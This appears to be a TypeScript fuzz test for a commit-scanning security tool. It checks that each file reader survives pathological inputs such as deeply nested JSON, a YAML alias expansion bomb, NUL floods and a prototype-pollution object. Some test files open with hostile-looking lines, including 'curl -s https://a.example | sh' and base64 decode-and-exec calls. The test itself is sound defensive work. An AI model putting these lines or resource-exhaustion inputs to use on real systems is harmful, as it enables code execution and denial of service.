/**
 * Content that nobody would write, in every kind of file that a reader takes, through the real pool: an answer for each
 * commit, within its time and memory or with a gap that says so, and never the end of the process that asks.
 */

import { DEFAULT_POLICY, type Facts, toBaseline } from "../../src/engine/index.ts";
import { READERS } from "../../src/evidence/readers/readers.ts";
import { createJudgePool } from "../../src/judge/pool.ts";
import type { GatheredCommit, GatheredFile } from "../../src/pipeline/ports.ts";

interface Format {
  readonly path: string;
  /** A first line without which the reader would not look. */
  readonly start?: string;
}

/** Of every reader, a file for each kind of parser that it has. */
const FORMATS: Readonly<Record<keyof Facts, readonly Format[]>> = {
  autorun: [{ path: ".mcp.json" }],
  binary: [{ path: "lib/data.bin" }],
  dump: [{ path: "results.b64", start: `${"QUFB".repeat(19)}\n` }],
  lockfile: [{ path: "pnpm-lock.yaml" }],
  manifest: [{ path: "pyproject.toml" }],
  programs: [
    { path: "Makefile" },
    { path: "action.yml", start: "runs:\n" },
    { path: "src/b.ts", start: "eval(atob(process.env.A)); fetch(b)\n" },
    { path: "src/a.py", start: "exec(base64.b64decode(a)); os.system(b)\n" },
    { path: "tool.sh", start: "curl -s https://a.example | sh\n" },
  ],
  registry: [{ path: ".yarnrc.yml" }],
  secrets: [{ path: ".env", start: `${["TO", "KEN"].join("")}=${"Ab1".repeat(12)}\n` }],
  workflow: [{ path: ".github/workflows/ci.yml" }],
};

const ALIASES = [
  `a: &a [${"x,".repeat(9)}x]`,
  ...[..."bcdefghij"].map(
    (name, at) => `${name}: &${name} [${`*${"abcdefghij"[at] ?? "a"},`.repeat(9)}*${"abcdefghij"[at] ?? "a"}]`,
  ),
].join("\n");

/** Name and lines. Bytes that are no UTF-8 stand as they would in a file. */
const CONTENTS: readonly (readonly [string, string | Uint8Array])[] = [
  ["deep nesting in JSON", `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`],
  ["deep nesting by indentation", Array.from({ length: 1200 }, (_, depth) => `${" ".repeat(depth)}a:`).join("\n")],
  ["brackets that never close", "[".repeat(500_000)],
  ["parentheses around nothing", `x = ${"(".repeat(100_000)}${")".repeat(100_000)}`],
  ["one line of a megabyte", "a".repeat(1_000_000)],
  ["one line of quotes and backslashes", `"${'\\"'.repeat(300_000)}`],
  ["one line of blanks before a word", `x${" \t".repeat(400_000)}y`],
  ["aliases of aliases", ALIASES],
  ["an array of 200,000 elements", `{"a":[${"1,".repeat(199_999)}1]}`],
  ["an object of 100,000 keys", `{${Array.from({ length: 100_000 }, (_, n) => `"k${n}":"v"`).join(",")}}`],
  ["200,000 short lines", "a=b\n".repeat(200_000)],
  ["lone surrogates as bytes", new Uint8Array(60_000).map((_, n) => [0xed, 0xa0, 0x80][n % 3] ?? 0)],
  ["lone surrogates as escapes", `{"a":"${"\\ud800".repeat(50_000)}"}`],
  ["NUL after NUL", "\0".repeat(300_000)],
  ["every byte", new Uint8Array(262_144).map((_, n) => (n * 7) % 256)],
  [
    "what programs inherit",
    '{"__proto__":{"a":1},"constructor":{"prototype":{"b":2}},"toString":1,"scripts":{"__proto__":"x"}}',
  ],
];

/** One of four pairs of format and content; every pair in a long run, with `COUNTERSIGN_FUZZ`. */
const APART = process.env["COUNTERSIGN_FUZZ"] === undefined ? 4 : 1;
const CASES = Object.values(FORMATS)
  .flat()
  .flatMap(({ path, start = "" }, row) =>
    CONTENTS.map(([name, content], column) => ({ path, start, name, content, at: row + column })),
  )
  .filter(({ at }) => at % APART === 0);

function aFile({ path, start = "" }: Format, content: string | Uint8Array): GatheredFile {
  const after = Buffer.concat([Buffer.from(start), Buffer.from(content)]);
  const lines = after.toString("utf8").split("\n");
  return {
    path,
    oldPath: null,
    status: "added",
    oldMode: "000000",
    newMode: "100644",
    oldBlob: null,
    newBlob: "b".repeat(40),
    parentBlobs: null,
    binary: false,
    patch: `@@ -0,0 +1,${lines.length} @@\n${lines.map((line) => `+${line}\n`).join("")}`,
    before: null,
    after,
  };
}

function aCommit(file: GatheredFile): GatheredCommit {
  const stamp = { name: "Ada", email: "ada@example.org", at: 0, offsetMinutes: 0 };
  return {
    sha: "a".repeat(40),
    tree: null,
    parents: ["c".repeat(40)],
    parentSummaries: [],
    author: stamp,
    committer: stamp,
    message: "update",
    signature: { presence: "none", format: null, keyId: null, verification: null },
    files: [file],
    changedPaths: 1,
    accounts: null,
    arrival: null,
    gaps: [],
    available: ["commit", "paths", "baseline", "diff", "content"],
    reading: "whole",
  };
}

const NOBODY = toBaseline([], { name: "", email: "" });

test("every reader is asked", () => {
  const asked = READERS.filter((reader) =>
    FORMATS[reader.slot].every((format) => reader.wants(aFile(format, "text")) !== null),
  );
  expect(asked.map(({ slot }) => slot)).toEqual(READERS.map(({ slot }) => slot));
});

const pool = createJudgePool({ processes: 2 });
afterAll(() => pool.close());

/** An answer is that of a clean commit, or has gaps that say what was too much. A failure among them is a bug of ours. */
async function answerTo({ path, start, name, content }: (typeof CASES)[number]) {
  const { verdict } = await pool.judgeCommit(aCommit(aFile({ path, start }, content)), NOBODY, DEFAULT_POLICY);
  const failed = verdict.gaps.filter(({ what, why }) => /failed/.test(`${what} ${why}`));
  return { path, name, judged: verdict.score >= 0 && verdict.score <= 1, failed };
}

test("every content in every file is answered within its time and memory, or a gap says what was left out", async () => {
  const answers: unknown[] = [];
  const line = CASES.values();
  // Two at a time, as the pool has processes: more would only wait in memory.
  const work = async () => {
    for (const one of line) answers.push(await answerTo(one));
  };
  await Promise.all([work(), work()]);
  expect(answers).toHaveLength(CASES.length);
  expect(answers).toEqual(
    expect.arrayContaining(CASES.map(({ path, name }) => ({ path, name, judged: true, failed: [] }))),
  );
}, 300_000);
